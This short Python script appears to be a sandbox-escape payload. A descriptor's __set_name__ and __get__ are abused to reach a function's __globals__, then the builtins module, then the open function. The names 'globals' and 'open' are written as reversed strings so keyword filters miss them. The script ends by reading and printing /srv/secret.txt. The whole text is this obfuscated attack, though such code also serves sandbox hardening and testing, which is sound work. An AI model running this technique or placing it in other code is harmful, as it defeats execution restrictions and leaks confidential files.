# reaches: a descriptor is told a name by the program, and reads a function's globals by it
class Field:
    def __set_name__(self, owner, name):
        self.private_name = "_" + name
    def __get__(self, obj, owner=None):
        return getattr(obj, self.private_name)
def plain():
    return 1
field = Field()
field.__set_name__(None, "_" + "slabolg"[::-1] + "_" * 2)
found = Field.__get__(field, plain)
inside = [v for k, v in found.items() if k.strip("_") == "builtins"][0]
print([getattr(inside, n) for n in dir(inside) if n == "nepo"[::-1]][0]("/srv/secret.txt").read())
